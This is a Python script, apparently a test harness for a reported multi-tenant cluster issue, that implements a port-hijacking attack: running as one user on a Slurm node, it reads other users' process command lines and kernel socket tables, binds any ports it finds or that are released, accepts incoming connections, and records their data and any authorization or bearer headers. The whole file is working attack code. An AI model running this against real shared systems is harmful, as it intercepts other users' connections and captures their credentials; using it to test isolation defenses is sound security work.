"""Another user's port thief (run as user B in a job on a node), the attack of
issue 26: from before A's job starts until it ends, it watches every other
user's command line (what `ps` shows) for numbers that could be ports, and
the kernel's socket tables for other users' listeners, and binds and listens
on each such port on the node's address as soon as it sees it, and on every
port another user's listener lets go. Whatever connects is accepted and
recorded. Prints "THIEF READY" once watching, then on SIGTERM or after
argv[2] seconds "STOLEN <n>", "ACCEPTED <n>", "BEARER <n>" (connections whose
first bytes hold an authorization header), "TRIED <every port it went
for, comma-separated>" and "RECEIVED <hex of the first
4 KiB>".

argv: ADDRESS SECONDS"""
import os
import re
import select
import signal
import socket
import sys
import time

addr, seconds = sys.argv[1], float(sys.argv[2])
me = os.getuid()
stop = [False]
signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))

NUMBER = re.compile(rb"(?<![0-9.])([0-9]{4,5})(?![0-9.])")


def others_cmdline_ports():
    """Numbers 1024-65535 on the command lines of other users' processes
    (root's are Slurm's own)."""
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
            if uid in (0, me):
                continue
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                line = f.read()
        except OSError:
            continue
        for m in NUMBER.finditer(line.replace(b"\0", b" ")):
            p = int(m.group(1))
            if 1024 <= p <= 65535:
                found.add(p)
    return found


def others_listeners():
    """Ports other users (not root, not this user) listen on now."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            if len(f) > 7 and f[3] == "0A" and int(f[7]) not in (0, me):
                ports.add(int(f[1].rsplit(":", 1)[1], 16))
    return ports


listeners, stolen, tried = {}, set(), {}
poller = select.epoll()
accepted, bearer, received = 0, 0, b""


def steal(port):
    """Binds and listens on the node's address, then the wildcard; a port
    that resists is tried again later (it may be released)."""
    for host in (addr, "0.0.0.0"):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((host, port))
            s.listen(64)
            s.setblocking(False)
        except OSError:
            s.close()
            continue
        listeners[s.fileno()] = s
        poller.register(s.fileno(), select.EPOLLIN)
        stolen.add(port)
        return True
    return False


def accept_ready(timeout):
    global accepted, bearer, received
    for fd, _ in poller.poll(timeout):
        try:
            conn, _ = listeners[fd].accept()
        except OSError:
            continue
        accepted += 1
        conn.settimeout(1)
        data = b""
        try:
            end = time.time() + 1
            while time.time() < end and len(data) < 4096:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        conn.close()
        if b"authorization" in data.lower() or b"bearer" in data.lower():
            bearer += 1
        received += data


print("THIEF READY", flush=True)
seen_listening = set()
end = time.time() + seconds
while not stop[0] and time.time() < end:
    now_listening = others_listeners()
    released = seen_listening - now_listening
    seen_listening |= now_listening
    wanted = (others_cmdline_ports() | released) - stolen
    for port in wanted:
        # A port that resisted is tried again each pass: it may be let go.
        tried[port] = tried.get(port, 0) + 1
        steal(port)
    accept_ready(0.02)

print("TRIED", ",".join(str(p) for p in sorted(tried)), flush=True)
print("STOLEN", len(stolen), flush=True)
print("ACCEPTED", accepted, flush=True)
print("BEARER", bearer, flush=True)
print("RECEIVED", received[:4096].hex(), flush=True)
